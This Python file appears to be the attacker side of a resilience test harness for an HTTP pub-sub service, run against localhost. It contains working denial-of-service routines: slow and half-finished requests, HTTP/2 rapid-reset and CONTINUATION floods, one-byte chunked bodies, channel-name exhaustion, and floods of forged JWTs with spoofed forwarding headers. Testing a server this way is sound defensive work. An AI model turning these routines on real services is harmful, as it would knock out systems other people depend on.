"""The attackers: one process of one attack, until its time is over.

    attackers.py '{"attack": "half-requests", "index": 0, "of": 4, "port": 4100, "seconds": 10, ...}'

Speaks raw bytes over sockets of its own, because no client library would send such things. Prints
one line of JSON at the end: what it did, what it was told, and the processor time that it took.
"""

import base64
import collections
import errno
import hashlib
import hmac
import itertools
import json
import os
import resource
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags of HTTP/2.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM = ACK = 1
END_HEADERS = 4


class Attacker:
    """What all of them share: where the hub is, until when, and what is counted."""

    def __init__(self, task):
        self.task = task
        self.index, self.of = task["index"], task["of"]
        self.end = time.monotonic() + task["seconds"]
        self.counts = collections.Counter()
        # Each process has an address of its own, and so ports of its own.
        self.source = f"127.0.0.{10 + self.index}"

    def running(self):
        return time.monotonic() < self.end

    def head(self, method, path, *lines):
        key = f"Authorization: Bearer {self.task['key']}"
        return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: localhost", key, *lines, "", ""]).encode()

    def connect(self, timeout=1.0):
        """A connected socket, or nothing if the hub has no room."""
        sock = socket.socket()
        sock.settimeout(timeout)
        try:
            sock.bind((self.source, 0))
            sock.connect(("127.0.0.1", self.task["port"]))
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        except OSError:
            sock.close()
            self.counts["not connected"] += 1
            time.sleep(0.01)
            return None
        self.counts["connections"] += 1
        return sock

    def connections(self):
        """One connection behind the other."""
        while self.running():
            sock = self.connect()
            if sock is None:
                continue
            with sock:
                yield sock

    def report(self):
        used = resource.getrusage(resource.RUSAGE_SELF)
        return {"cpu": used.ru_utime + used.ru_stime, "counts": self.counts}


class Crowd(Attacker):
    """Many connections that are opened, say something, and then hold what they have. Whoever is
    cut off comes back."""

    # New ones in one go, so that none of the others waits for long.
    batch = 50
    receive_buffer = None

    def __init__(self, task, opening, total):
        super().__init__(task)
        self.opening = opening
        self.want = total // self.of + (self.index < total % self.of)
        self.poll = select.epoll()
        self.socks = {}
        self.fresh = set()

    def run(self):
        while self.running():
            missing = self.want - len(self.socks)
            for _ in range(min(missing, self.batch)):
                self.open()
            self.counts["most at a time"] = max(self.counts["most at a time"], self.held())
            for fd, events in self.poll.poll(0 if missing > 0 else 0.05, 1000):
                self.look(fd, events)

    def held(self):
        return len(self.socks) - len(self.fresh)

    def open(self):
        sock = socket.socket()
        sock.setblocking(False)
        try:
            if self.receive_buffer:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
            sock.bind((self.source, 0))
            sock.connect(("127.0.0.1", self.task["port"]))
        except BlockingIOError:
            pass
        except OSError as error:
            self.counts[f"not connected: {errno.errorcode.get(error.errno)}"] += 1
            sock.close()
            return
        self.socks[sock.fileno()] = sock
        self.fresh.add(sock.fileno())
        self.poll.register(sock.fileno(), select.EPOLLOUT | select.EPOLLIN)

    def look(self, fd, events):
        sock = self.socks[fd]
        if fd in self.fresh and events & select.EPOLLOUT and not events & select.EPOLLERR:
            self.fresh.discard(fd)
            self.counts["connections"] += 1
            try:
                sock.send(self.opening)
            except OSError:
                return self.gone(fd)
            return self.poll.modify(fd, self.interest())
        if events & select.EPOLLIN and self.interest() & select.EPOLLIN:
            try:
                said = sock.recv(4096)
            except OSError:
                said = b""
            if said:
                return self.count_answer(said)
        self.gone(fd)

    def interest(self):
        return select.EPOLLIN | select.EPOLLRDHUP

    def count_answer(self, said):
        if said.startswith(b"HTTP/1.1 "):
            self.counts[f"answered {said[9:12].decode()}"] += 1

    def gone(self, fd):
        self.counts["cut off" if fd not in self.fresh else "not connected"] += 1
        self.fresh.discard(fd)
        self.poll.unregister(fd)
        self.socks.pop(fd).close()


class HalfRequests(Crowd):
    """A request that never ends."""

    def __init__(self, task):
        super().__init__(task, b"GET /v1/channels/attack/half HTTP/1.1\r\nHost: localhost\r\nX-Wait: a", task["crowd"])


class Elsewhere(HalfRequests):
    """No attack on the hub: the same crowd comes to a server beside it that does nothing but hold
    connections, as many as the hub and as long. The first process is that server as well."""

    def __init__(self, task):
        super().__init__(task)
        # A port that the runner has kept free for it.
        self.task = task | {"port": task["sink"]}

    def run(self):
        if self.index == 0 and os.fork() == 0:
            hold(self.task["sink"], self.task["room"], self.end)
            os._exit(0)
        time.sleep(0.3)
        super().run()
        if self.index == 0:
            os.wait()

    def report(self):
        server = resource.getrusage(resource.RUSAGE_CHILDREN)
        sums = super().report()
        return sums | {"cpu": sums["cpu"] + server.ru_utime + server.ru_stime}


def hold(port, room, end, seconds=10.0):
    """Accepts connections, keeps so many for so long, and closes those past them at once."""
    listener = socket.create_server(("127.0.0.1", port), backlog=4096)
    listener.settimeout(0.1)
    held = collections.deque()
    while (now := time.monotonic()) < end:
        while held and held[0][0] < now - seconds:
            held.popleft()[1].close()
        try:
            sock, _ = listener.accept()
        except OSError:
            continue
        if len(held) < room:
            held.append((now, sock))
        else:
            sock.close()


class HalfPrefaces(Crowd):
    """The beginning of HTTP/2, and no more of it: the hub cannot know yet which one is spoken."""

    def __init__(self, task):
        super().__init__(task, PREFACE[:9], task["crowd"])


class NeverRead(Crowd):
    """Subscribers whose channel is published to, and who read nothing. The first process is the
    publisher."""

    receive_buffer = 4096
    per_second = 50

    def __init__(self, task):
        super().__init__(task, b"", task["silent"])
        self.opening = self.head("GET", "/v1/channels/attack/silent")
        # The publisher has none.
        share, others = divmod(task["silent"], self.of - 1)
        self.want = share + (self.index <= others) if self.index else 0

    def interest(self):
        # Not even whether there is something to read; a socket that was cut off says so anyway.
        return select.EPOLLRDHUP

    def run(self):
        if self.index:
            return super().run()
        body = b"x" * 1000
        request = self.head("POST", "/v1/channels/attack/silent", f"Content-Length: {len(body)}") + body
        due = time.monotonic() + 0.5
        for sock in self.connections():
            while self.running():
                time.sleep(max(0, due - time.monotonic()))
                due += 1 / self.per_second
                try:
                    sock.sendall(request)
                    answer = sock.recv(4096)
                except OSError:
                    break
                if not answer:
                    break
                self.counts[f"published {answer[9:12].decode()}"] += 1
        return None


class TinyChunks(Attacker):
    """A publisher whose body comes in chunks of one byte, as fast as they are taken: events, and,
    from every second process, comments, which never become any."""

    def run(self):
        text = b": aaaaaa\n" if self.index % 2 else b"data: x\n\n"
        once = b"".join(b"1\r\n%c\r\n" % byte for byte in text)
        # Whole texts, so that the next piece goes on where this one ended.
        piece = once * (65536 // len(once))
        kind = ["Content-Type: text/event-stream", "Transfer-Encoding: chunked"]
        for sock in self.connections():
            try:
                sock.sendall(self.head("POST", f"/v1/channels/attack/tiny-{self.index}", *kind))
                sock.settimeout(0.5)
                self.pour(sock, piece)
            except OSError:
                self.counts["cut off"] += 1

    def pour(self, sock, piece):
        rest = memoryview(piece)
        while self.running():
            try:
                sent = sock.send(rest)
                self.counts["chunks"] += sent // 6
                rest = rest[sent:] or memoryview(piece)
            except TimeoutError:
                self.counts["waits of 0.5 s"] += 1
            answer = received(sock)
            if answer is None:
                continue
            if answer:
                self.counts[f"answered {answer[9:12].decode()}"] += 1
            return


def received(sock):
    """What has come already; nothing if nothing has, and no bytes if the connection is over."""
    patience = sock.gettimeout()
    sock.setblocking(False)
    try:
        return sock.recv(65536)
    except BlockingIOError:
        return None
    finally:
        sock.settimeout(patience)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name_index, value):
    """A header by the static table's name and a value of its own, not remembered (RFC 7541)."""
    return bytes([name_index, len(value)]) + value.encode()


# GET /v1/channels/attack/reset of http://localhost
REQUEST = b"\x82\x86" + literal(0x04, "/v1/channels/attack/reset") + literal(0x01, "localhost")
OPENING = PREFACE + frame(SETTINGS, 0, 0)


class RapidReset(Attacker):
    """Streams that are opened and reset at once, until the hub has enough; then a new connection."""

    lot = 100

    def run(self):
        lots = [self.make(1 + 2 * self.lot * number) for number in range(200)]
        for sock in self.connections():
            self.counts.update(streams=0)
            try:
                sock.sendall(OPENING)
                for lot in lots:
                    if not self.running():
                        break
                    sock.sendall(lot)
                    self.counts["streams"] += self.lot
                    if self.over(sock):
                        break
            except OSError:
                self.counts["cut off"] += 1

    def make(self, first):
        pairs = range(first, first + 2 * self.lot, 2)
        return b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST)
            + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in pairs
        )

    def over(self, sock):
        said = received(sock)
        self.counts["cut off"] += said == b""
        return said == b""


class PacedReset(RapidReset):
    """The same in lots that stay below what the hub minds: ten, a PING, and when that is answered
    the next ten. The connection is never ended, and the hub looks at every stream."""

    lot = 10

    def run(self):
        pong = frame(PING, ACK, 0, b"attacker")
        for sock in self.connections():
            try:
                sock.sendall(OPENING)
                for first in itertools.count(1, 2 * self.lot):
                    if not self.running() or first > 1 << 30:
                        break
                    sock.sendall(self.make(first) + frame(PING, 0, 0, b"attacker"))
                    self.counts["streams"] += self.lot
                    said = b""
                    while pong not in said:
                        more = sock.recv(65536)
                        if not more:
                            raise OSError
                        said = said[-16:] + more
            except OSError:
                self.counts["cut off"] += 1


class Continuations(Attacker):
    """A head without end: CONTINUATION frames, of some bytes each."""

    def run(self):
        begin = OPENING + frame(HEADERS, END_STREAM, 1, REQUEST)
        # An index of the static table, again and again: next to nothing on the wire.
        lot = frame(CONTINUATION, 0, 1, b"\x90" * 16) * 1000
        for sock in self.connections():
            try:
                sock.sendall(begin)
                while self.running():
                    sock.sendall(lot)
                    self.counts["frames"] += 1000
            except OSError:
                self.counts["cut off"] += 1


class Pipeline(Attacker):
    """Requests on connections that are kept, many on their way at a time; answers are counted."""

    ahead = 50
    sockets = 1

    def requests(self):
        raise NotImplementedError

    def run(self):
        requests = self.requests()
        socks = [None] * self.sockets
        while self.running():
            for place, sock in enumerate(socks):
                sock = sock or self.connect()
                if sock is None:
                    continue
                try:
                    sock.sendall(b"".join(itertools.islice(requests, self.ahead)))
                    self.answers(sock)
                    socks[place] = sock
                except OSError:
                    self.counts["cut off"] += 1
                    sock.close()
                    socks[place] = None

    def answers(self, sock):
        said, mark = b"", b"HTTP/1.1 "
        while said.count(mark) < self.ahead or not said.endswith((b"}", b"\n")):
            more = sock.recv(262144)
            if not more:
                break
            said += more
        for answer in said.split(mark)[1:]:
            self.counts[f"answered {answer[:3].decode()}"] += 1
            if b"quotas." in answer:
                limit = answer[answer.index(b"quotas.") :].split(b"`")[0].split(b'"')[0].decode()
                self.counts[limit] += 1
        if said.count(mark) < self.ahead:
            raise OSError


class Names(Pipeline):
    """Channel names, one after the other, of one principal: half of the processes publish to them,
    the others create them."""

    def requests(self):
        mine = range(self.index, self.task["names"], self.of)
        for number in itertools.cycle(mine):
            self.counts["names"] += self.counts["names"] < len(mine)
            path = f"/v1/channels/attack/name-{number}"
            if self.index % 2:
                yield self.head("PUT", path, "Content-Length: 0")
            else:
                yield self.head("POST", path, "Content-Length: 1") + b"x"


class Credentials(Pipeline):
    """Tokens that are not good: a wrong HS256 signature, a key id that nobody has, and a wrong
    EdDSA signature, which takes longest to look at."""

    sockets = 2
    forwarded = False

    def requests(self):
        # Made beforehand, or the attack would be as slow as we are at making them.
        return itertools.cycle(list(itertools.islice(self.made(), 3000)))

    def made(self):
        claims = {"aud": "fanfare", "sub": "mallory", "exp": 4_000_000_000, "fanfare": {"subscribe": ["**"]}}
        for number in itertools.count():
            kind = number % 3
            if kind == 0:
                token = jwt({"alg": "HS256"}, claims | {"iss": "https://hs.example/"}, number)
            else:
                kid = "known" if kind == 1 else f"unknown-{self.index}-{number}"
                token = jwt({"alg": "EdDSA", "kid": kid}, claims | {"iss": "https://ed.example/"}, number)
            lines = ["GET /v1/channels/attack/x HTTP/1.1", "Host: localhost", f"Authorization: Bearer {token}"]
            if self.forwarded:
                lines.append(f"X-Forwarded-For: 203.0.113.{self.index}")
            yield "\r\n".join([*lines, "", ""]).encode()


class ForwardedCredentials(Credentials):
    """The same through a proxy that is trusted and says who it is: this machine itself is exempt
    from limits by address, and the address that it names is not."""

    forwarded = True


class Busy(Attacker):
    """No attack: a neighbour who uses the processor."""

    def run(self):
        while self.running():
            hashlib.sha256(b"x" * 10_000).digest()


def jwt(header, claims, number):
    def part(value):
        return base64.urlsafe_b64encode(value).rstrip(b"=")

    text = part(json.dumps(header).encode()) + b"." + part(json.dumps(claims).encode())
    signature = hmac.new(b"guess %d" % number, text, hashlib.sha256).digest()
    if header["alg"] == "EdDSA":
        signature *= 2
    return (text + b"." + part(signature)).decode()


ATTACKS = {
    "busy": Busy,
    "elsewhere": Elsewhere,
    "half-requests": HalfRequests,
    "half-prefaces": HalfPrefaces,
    "never-read": NeverRead,
    "tiny-chunks": TinyChunks,
    "rapid-reset": RapidReset,
    "paced-reset": PacedReset,
    "continuations": Continuations,
    "names": Names,
    "credentials": Credentials,
    "forwarded-credentials": ForwardedCredentials,
}


def main():
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    task = json.loads(sys.argv[1])
    attacker = ATTACKS[task["attack"]](task)
    attacker.run()
    print(json.dumps(attacker.report()), flush=True)
    # Thousands of sockets: the kernel closes them faster than we would.
    os._exit(0)


if __name__ == "__main__":
    main()
